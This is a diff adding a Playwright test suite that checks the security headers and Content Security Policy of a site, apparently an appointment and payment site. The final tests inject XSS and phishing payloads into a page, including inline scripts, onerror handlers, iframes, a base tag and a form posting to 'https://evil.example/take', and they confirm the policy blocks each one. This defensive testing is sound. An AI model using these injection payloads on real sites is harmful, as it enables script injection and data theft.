@@ -1,0 +1,201 @@
+import { once } from 'node:events';
+import { createServer } from 'node:http';
+import { memberPages, notFoundPage, publicPages } from '#contract/site.ts';
+import { freePort } from '#platform/testing/ports.ts';
+import { addAppointment, form, openForm } from './support/appointments.ts';
+import { hostedOrigins, hostedSettings } from './support/hosted-firebase.ts';
+import { answerBank, goToBank, success } from './support/payment.ts';
+import { blockedRequests, inject, noteViolations, readPolicy } from './support/policy.ts';
+import { startSite } from './support/site.ts';
+import { expect, test } from './support/test.ts';
+
+const documents = [
+  ...publicPages,
+  notFoundPage,
+  '/nowhere',
+  ...memberPages.map((path) => path.replace(':id', '7')),
+];
+
+/** What stands in every document, whoever the third parties are. */
+const decided = {
+  'x-content-type-options': 'nosniff',
+  'x-frame-options': 'DENY',
+  'referrer-policy': 'strict-origin-when-cross-origin',
+  'permissions-policy': 'camera=(), microphone=(), geolocation=(), payment=(self)',
+  'cross-origin-opener-policy': 'same-origin-allow-popups',
+  'cross-origin-resource-policy': 'same-origin',
+};
+const closed = {
+  'default-src': ["'self'"],
+  'frame-src': ["'none'"],
+  'connect-src': ["'self'"],
+  'img-src': ["'self'", 'data:', 'blob:'],
+  'base-uri': ["'none'"],
+  'form-action': ["'self'"],
+  'frame-ancestors': ["'none'"],
+  'object-src': ["'none'"],
+};
+
+test('every document has the headers that were decided, and no other origin in them', async ({ request }) => {
+  for (const path of documents) {
+    const headers = (await request.get(path)).headers();
+    expect(headers, path).toMatchObject(decided);
+    const { 'script-src': [self, ...hashes] = [], 'style-src': _, ...others } = readPolicy(headers);
+    expect(others, path).toEqual(closed);
+    expect(self, path).toBe("'self'");
+    expect(hashes.length, path).toBeGreaterThan(0);
+    for (const hash of hashes) expect(hash, path).toMatch(/^'sha256-[\w+/]{43}='$/);
+    expect(headers, path).not.toHaveProperty('strict-transport-security');
+    expect(headers, path).not.toHaveProperty('access-control-allow-origin');
+  }
+});
+
+test('Stripe and Firebase stand in them where they are configured, and under https HSTS does', async () => {
+  const site = await startSite({
+    ...hostedSettings,
+    PUBLIC_URL: 'https://blood.example',
+    STRIPE_SECRET_KEY: 'sk_test_x',
+    STRIPE_PUBLISHABLE_KEY: 'pk_test_x',
+    STRIPE_WEBHOOK_SECRET: 'whsec_x',
+  });
+  try {
+    const answer = await fetch(`${site.url}/dashboard/payment/7`, { headers: { host: 'blood.example' } });
+    const headers = Object.fromEntries(answer.headers);
+    const policy = readPolicy(headers);
+    expect(headers).toMatchObject({
+      ...decided,
+      'strict-transport-security': 'max-age=31536000; includeSubDomains',
+    });
+    expect(policy['frame-src']).toEqual(['https://js.stripe.com', 'https://hooks.stripe.com']);
+    expect(policy['connect-src']).toEqual(["'self'", ...hostedOrigins, 'https://api.stripe.com']);
+    expect(policy['script-src']?.filter((source) => source.includes('://'))).toEqual([
+      'https://js.stripe.com',
+    ]);
+    expect(policy['frame-ancestors']).toEqual(["'none'"]);
+  } finally {
+    await site.stop();
+  }
+});
+
+test.describe('nothing that the site does is against its own policy', () => {
+  test.use({ expectedErrors: [/status of 404/] });
+
+  test('[PUB-01] [GRD-01] on every page for a visitor, with its windows open', async ({ page, context }) => {
+    const violations = await noteViolations(context);
+    const blocked = blockedRequests(context);
+    for (const path of documents.filter((each) => each !== '/')) {
+      await page.goto(path);
+      await expect(
+        page.getByRole('main').getByRole('heading').or(page.getByRole('alert')).first(),
+      ).toBeAttached();
+    }
+    await page.setViewportSize({ width: 400, height: 800 });
+    await openForm(page);
+    await form(page).getByRole('button', { name: 'Choose the date in a calendar' }).click();
+    await expect(page.getByRole('grid')).toBeVisible();
+    await page.keyboard.press('Escape');
+    await page.getByRole('button', { name: 'Menu' }).click();
+    await page.keyboard.press('Escape');
+    const photo = page.locator('.bb-preview-space button').first();
+    await photo.click();
+    await expect(page.getByRole('dialog', { name: /photo/i })).toBeVisible();
+    expect({ violations, blocked }).toEqual({ violations: [], blocked: [] });
+  });
+
+  test('[GRD-04] [PAY-01] [IDP-03] on every page for a member, at the bank and in the window of Google', async ({
+    page,
+    context,
+    signedIn,
+    request,
+  }) => {
+    const violations = await noteViolations(context);
+    const blocked = blockedRequests(context);
+    const id = await addAppointment(request, signedIn);
+    for (const path of memberPages.filter((each) => !each.includes(':'))) {
+      await page.goto(path, { waitUntil: 'networkidle' });
+      await expect(page.getByRole('main').getByRole('heading').first()).toBeVisible();
+    }
+    await page.goto(`/dashboard/payment/${id}`);
+    await goToBank(page);
+    await answerBank(page, 'Accept');
+    await expect(success(page)).toBeVisible();
+    await success(page).getByRole('button', { name: 'OK' }).click();
+    await page.getByRole('banner').getByRole('link', { name: 'Log out' }).click();
+    await expect(page).toHaveURL('/login');
+    const opens = page.waitForEvent('popup');
+    await page.getByRole('button', { name: 'Continue With Google' }).click();
+    const popup = await opens;
+    await expect(popup.getByRole('heading')).toBeVisible();
+    await popup.close();
+    expect({ violations, blocked }).toEqual({ violations: [], blocked: [] });
+  });
+});
+
+test.describe('who got something into a page', () => {
+  const evil = 'https://evil.example';
+  test.use({ expectedErrors: [/Content Security Policy/], allowedOrigins: [evil] });
+
+  test('runs no script, sends nothing elsewhere and puts nothing over it', async ({ page, context }) => {
+    const violations = await noteViolations(context);
+    let reached = 0;
+    await context.route(`${evil}/**`, (route) => {
+      reached += 1;
+      return route.fulfill({ body: '' });
+    });
+    await page.goto('/contact', { waitUntil: 'networkidle' });
+    const attempts: Record<string, string> = {
+      'script-src-elem inline': '<script>window.hacked = true</script>',
+      'script-src-attr inline': '<img src="data:," onerror="window.hacked = true">',
+      [`script-src-elem ${evil}`]: `<script src="${evil}/a.js"></script>`,
+      'script-src-elem data': '<script src="data:text/javascript,window.hacked=true"></script>',
+      [`img-src ${evil}`]: `<img src="${evil}/seen.gif" alt="">`,
+      [`frame-src ${evil}`]: `<iframe src="${evil}/"></iframe>`,
+      [`object-src ${evil}`]: `<object data="${evil}/a"></object>`,
+      [`style-src-elem ${evil}`]: `<link rel="stylesheet" href="${evil}/a.css">`,
+      'base-uri': `<base href="${evil}/">`,
+    };
+    for (const [violation, html] of Object.entries(attempts)) {
+      await inject(page, html);
+      await expect.poll(() => violations.some((found) => found.startsWith(violation)), violation).toBe(true);
+    }
+    await inject(page, `<form id="phish" method="post" action="${evil}/take"><input name="a"></form>`);
+    await page.evaluate(() => document.querySelector<HTMLFormElement>('#phish')?.submit());
+    await expect.poll(() => violations.join()).toContain('form-action');
+    expect(await page.evaluate((to) => fetch(to).then(String, String), `${evil}/take`)).toContain(
+      'Failed to fetch',
+    );
+    await expect.poll(() => violations.join()).toContain('connect-src');
+    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
+    expect(reached).toBe(0);
+  });
+});
+
+/** A site of somebody else's that shows our pages and pictures, or tries to. */
+const elsewhere = test.extend<{ evil: string }>({
+  evil: async ({ site }, use) => {
+    const page = `<iframe src="${site.url}/login"></iframe><img src="${site.url}/icon-192.png" alt="">`;
+    const server = createServer((_, answer) => answer.setHeader('Content-Type', 'text/html').end(page));
+    const port = await freePort();
+    await once(server.listen(port, '127.0.0.1'), 'listening');
+    await use(`http://127.0.0.1:${port}`);
+    server.close();
+    server.closeAllConnections();
+  },
+  allowedOrigins: ({ evil }, use) => use([evil]),
+  expectedErrors: ({ evil: _ }, use) => use([/Content Security Policy|ERR_BLOCKED|status of 404/]),
+});
+
+elsewhere(
+  'another site can neither frame a page of ours, nor show its files, nor hold on to its window',
+  async ({ page, context, site, evil }) => {
+    const blocked = blockedRequests(context);
+    await page.goto(evil);
+    await expect.poll(() => blocked.join()).toContain(`ERR_BLOCKED_BY_RESPONSE ${site.url}/login`);
+    await expect.poll(() => blocked.join()).toContain(`NotSameOrigin ${site.url}/icon-192.png`);
+    const opens = context.waitForEvent('page');
+    await page.evaluate((url) => void Object.assign(window, { held: open(url) }), `${site.url}/login`);
+    await expect((await opens).getByRole('heading', { name: 'Login' })).toBeVisible();
+    const lost = () => page.evaluate(() => (window as unknown as { held: Window }).held.closed);
+    await expect.poll(lost).toBe(true);
+  },
+);
